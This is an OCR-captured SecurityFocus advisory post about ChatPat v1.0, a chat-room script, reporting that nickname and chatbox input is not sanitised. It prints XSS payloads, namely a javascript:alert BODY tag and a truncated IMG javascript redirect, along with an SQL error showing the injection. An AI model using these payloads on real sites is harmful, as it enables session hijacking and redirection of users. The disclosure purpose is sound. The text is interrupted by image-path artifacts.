ChatPat v1.0 May 23 2006 10:13PM
luny youfucktard com
ChatPat v1.0



An online chat room that lets users chat with each other.

Effected files:



The nickname input form doesn'tsanatize user input before it adds it to the db. In turn this can cause SQL query errors such as:UPDATE cp_users SET lastaction=NOW() WHERE nick='<BODY BACKGROUND="javascript:alert('XSS')">'

You have an error in your SQL syntax. Check the manual that corresponds to your MySQL server version for theright syntax to use near 'XSS')">'' at line 3

XSS Vuln by submitting malicious text in the chatbox:

<IMGSRC=javascript:window.location('

[ reply ]


Privacy Statement
Copyright 2010, SecurityFocus